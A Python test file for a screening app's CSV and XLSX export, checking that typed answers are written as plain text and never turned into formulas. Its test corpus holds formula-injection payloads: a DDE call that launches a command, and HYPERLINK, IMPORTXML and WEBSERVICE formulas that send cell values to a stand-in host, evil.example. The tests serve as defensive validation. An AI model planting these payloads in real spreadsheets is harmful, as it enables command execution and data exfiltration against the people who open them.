"""The table of requests: a column for each question, each answer as it was said, and nothing that runs."""

from __future__ import annotations

import csv
import io
import itertools
import secrets
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from typing import Any

import openpyxl
import pytest
from builders import CHRONIC_AND_INTRACTABLE

from screener.domain import transcript as transcripts
from screener.domain.question import Choice, Choices, Number, Option, Page, Part, Text, YesNo
from screener.domain.questionnaire import QUESTIONNAIRE
from screener.domain.screening import restore_answers
from screener.domain.transcript import transcript
from screener.exports import spreadsheet
from screener.exports.spreadsheet import Cell, Group, about, cells, columns, csv_chunks
from screener.exports.workbook import Sheet, xlsx_chunks

# What is typed to make somebody else's spreadsheet do something.
COMMANDS = (
    "cmd|' /C calc'!A0",
    "1+1",
    'HYPERLINK("https://evil.example?x="&A1,"Click")',
    'IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    'WEBSERVICE("https://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "5",
)
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    "  =",
    "\ufeff=",
    "\u200b@",
    "\uff1d",
    "\uff0b",
    "\t",
    "\r\n+",
)
CORPUS = [start + command for start, command in itertools.product(STARTS, COMMANDS)]
PLAIN = (
    "It hurts; -worse at night",
    "1=1",
    "Ann \u2013 Lee",
    'a,b\n"c"',
    "_x000D_",
    "\u201c=1\u201d",
    "\U0001f327",
)


def as_csv(rows: Iterable[Sequence[Cell]]) -> list[list[str]]:
    data = b"".join(csv_chunks(rows))
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_book(rows: Iterable[Sequence[Cell]]) -> Any:
    data = b"".join(xlsx_chunks([Sheet("Requests", rows, (10, 20)), Sheet("A & B", [["x"]], (9,))]))
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    return openpyxl.load_workbook(io.BytesIO(data))


def test_nothing_typed_is_a_formula_in_csv() -> None:
    assert len(CORPUS) > 100
    for (found,), typed in zip(as_csv([[text] for text in CORPUS]), CORPUS, strict=True):
        assert found[:1] == "'", typed
        assert "\0" not in found
        assert found[1:] == typed.replace("\0", ""), "and nothing of it is lost"


def test_nothing_typed_is_a_formula_in_xlsx() -> None:
    sheet = as_book([["What was typed"], *([text] for text in CORPUS)])["Requests"]
    (_, *found) = sheet["A"]
    assert {cell.data_type for cell in found} == {"s"}, "text, whatever it begins with"
    assert all(cell.quotePrefix for cell in found), "and still text when somebody edits it"
    # How the format writes what XML would make a line feed of.
    read = [cell.value.replace("_x000D_", "\r") for cell in found]
    assert read == [text.replace("\0", "") for text in CORPUS]


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_was_typed(text: str) -> None:
    assert as_csv([[text, 5]]) == [[text, "5"]]
    row = list(as_book([["head", "head"], [text, 5]])["Requests"].rows)[1]
    assert [row[0].value.replace("_x005F_", "_"), row[1].value] == [text, 5]
    assert not row[0].quotePrefix


def test_csv_lines_end_as_the_standard_says_and_texts_are_in_quotes() -> None:
    assert b"".join(csv_chunks([["a", 1], ["b;=2", 2]])) == b'\xef\xbb\xbf"a",1\r\n"b;=2",2\r\n'


def test_a_workbook_has_its_pages_and_cells_beyond_z() -> None:
    book = as_book([list(range(60)), *([n] * 60 for n in range(120))])
    assert book.sheetnames == ["Requests", "A & B"]
    assert book["Requests"]["BH121"].value == 119
    assert book["Requests"].freeze_panes == "A2"


def test_a_table_is_sent_while_it_is_made() -> None:
    made = 0

    def rows() -> Iterator[list[Cell]]:
        nonlocal made
        while made < 1000:
            made += 1
            yield [secrets.token_hex(20) for _ in range(20)]

    sent = iter(csv_chunks(rows()))
    while not made:
        assert next(sent)
    assert made < 200
    assert len(list(sent)) > 5, "in many pieces"


# ---------------------------------------------------------------- what stands in it


def row_of(answers: dict[str, object]) -> dict[str, Cell]:
    lines = [line.as_document() for line in transcript(restore_answers(answers))]
    return told(lines)


def told(lines: list[dict[str, Any]] | None, **facts: str) -> dict[str, Cell]:
    wanted = columns(list(Group))
    return dict(zip((column.id for column in wanted), cells(wanted, facts, lines), strict=True))


def test_skipped_not_sure_and_not_asked_are_told_apart() -> None:
    row = row_of(
        CHRONIC_AND_INTRACTABLE | {"side": None, "aura_ever": False, "symptoms": ["nausea", "light"]}
    )
    assert (row["days_lost"], row["side"], row["aura_each"]) == ("Skipped", "Not sure", "Not asked")
    assert row["symptoms"] == "Upset stomach (nausea); Light bothers me"
    assert (row["head_days"], row["comes_back"]) == (20, "Yes"), "numbers to compute with"


def test_a_request_without_answers_has_empty_cells() -> None:
    row = told(None, reference="ABC", owner="=Ann")
    assert (row["reference"], row["owner"], row["head_days"]) == ("ABC", "=Ann", "")


def test_answers_to_questions_of_older_days_are_not_lost() -> None:
    lines = [
        {"id": "gone", "kind": "Text", "status": "answered", "wording": "Old?", "value": "x", "said": "Yes"}
    ]
    assert told(lines)["other_answers"] == "Old? Yes"
    assert told([])["other_answers"] == ""


def test_a_file_holds_only_the_groups_asked_for() -> None:
    ids = {group: {column.id for column in columns([group])} for group in Group}
    assert {"reference", "state"} <= {column.id for column in columns([])}
    assert "contact_name" in ids[Group.CONTACT] - ids[Group.ANSWERS]
    assert {"urgency", "head_days"} <= ids[Group.ANSWERS] - ids[Group.CONTACT]
    assert {"urgency", "class", "language", "contact_name"}.isdisjoint(c.id for c in columns([]))


def test_a_question_of_each_kind_has_a_column_an_answer_and_a_meaning(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    options = (Option("red", "Red"), Option("blue", "Blue"))
    planted = {
        YesNo(id="x_yes", stem="Yes?"): (True, "Yes"),
        Number(id="x_number", stem="How many?", minimum=0, maximum=9, unit=("day", "days")): (7, 7),
        Choice(id="x_choice", stem="Which?", options=options): ("blue", "Blue"),
        Choices(id="x_choices", stem="Which ones?", options=options): (("red", "blue"), "Red; Blue"),
        Text(id="x_text", stem="Why?", max_length=99): ("=so", "=so"),
    }
    page = Page(slug="planted", part=Part.HISTORY, questions=tuple(planted), heading="Planted")
    more = replace(QUESTIONNAIRE, pages=(*QUESTIONNAIRE.pages, page))
    monkeypatch.setattr(spreadsheet, "QUESTIONNAIRE", more)
    monkeypatch.setattr("screener.domain.screening.QUESTIONNAIRE", more)
    row = row_of(CHRONIC_AND_INTRACTABLE | {question.id: value for question, (value, _) in planted.items()})
    assert {i: row[i] for i in row if i.startswith("x_")} == {
        question.id: shown for question, (_, shown) in planted.items()
    }
    meanings = dict(line for line in about(columns([Group.ANSWERS]), []) if line[0].endswith("]"))
    assert meanings["How many? [x_number]"] == "How many? A number from 0 to 9 days."
    assert meanings["Which ones? [x_choices]"] == "Which ones? Any of: Red; Blue."
    assert len(meanings) == len(list(more))
    assert transcripts.SKIPPED in dict(about([], []))
